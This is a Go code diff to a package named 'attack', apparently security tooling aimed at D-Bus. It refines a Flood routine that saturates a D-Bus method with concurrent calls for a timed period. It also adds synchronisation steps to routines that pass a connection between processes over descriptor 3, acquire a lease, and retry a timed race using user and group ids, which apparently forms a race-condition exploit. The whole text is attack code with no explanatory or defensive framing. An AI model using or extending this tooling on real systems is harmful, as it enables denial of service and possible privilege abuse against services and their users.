@@ -6,6 +6,7 @@ package attack
 import (
 	"bufio"
 	"bytes"
+	"context"
 	"encoding/binary"
 	"errors"
 	"fmt"
@@ -50,11 +51,12 @@ func Flood(kind string, seconds string, out io.Writer) error {
 	defer conn.Close()
 	var answered atomic.Int64
 	var all sync.WaitGroup
-	end := time.Now().Add(time.Duration(n) * time.Second)
+	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(n)*time.Second)
+	defer cancel()
 	for range atATime {
 		all.Go(func() {
-			for time.Now().Before(end) {
-				conn.Object(name, path).Call(name+"."+method, 0, arg)
+			for ctx.Err() == nil {
+				conn.Object(name, path).CallWithContext(ctx, name+"."+method, 0, arg)
 				answered.Add(1)
 			}
 		})
@@ -183,7 +185,7 @@ func Become(ready string, program []string) error {
 }
 
 // Ask is the process that ends while it is moved: it hands its connection to the one that
-// has started it (descriptor 3), and asks for a lease when that says so.
+// has started it (descriptor 3), asks for a lease when that says so, and says when it has.
 func Ask() error {
 	a, err := ask()
 	if err != nil {
@@ -200,6 +202,9 @@ func Ask() error {
 		return err
 	}
 	if err := a.acquire(map[string]dbus.Variant{"time": dbus.MakeVariant(uint64(60_000_000))}); err != nil {
+		return err
+	}
+	if _, err := unix.Write(3, []byte{0}); err != nil {
 		return err
 	}
 	_, err = unix.Read(3, make([]byte, 1)) // until it is killed
@@ -283,6 +288,9 @@ func reuse(uid, gid, group uint32) (what string, err error) {
 	conn := os.NewFile(uintptr(fds[0]), "connection")
 	defer conn.Close()
 	if _, err := unix.Write(pair[0], []byte{0}); err != nil {
+		return "", err
+	}
+	if _, err := unix.Read(pair[0], make([]byte, 1)); err != nil {
 		return "", err
 	}
 	time.Sleep(time.Duration(rand.IntN(6000)) * time.Microsecond) // the moment is what is tried
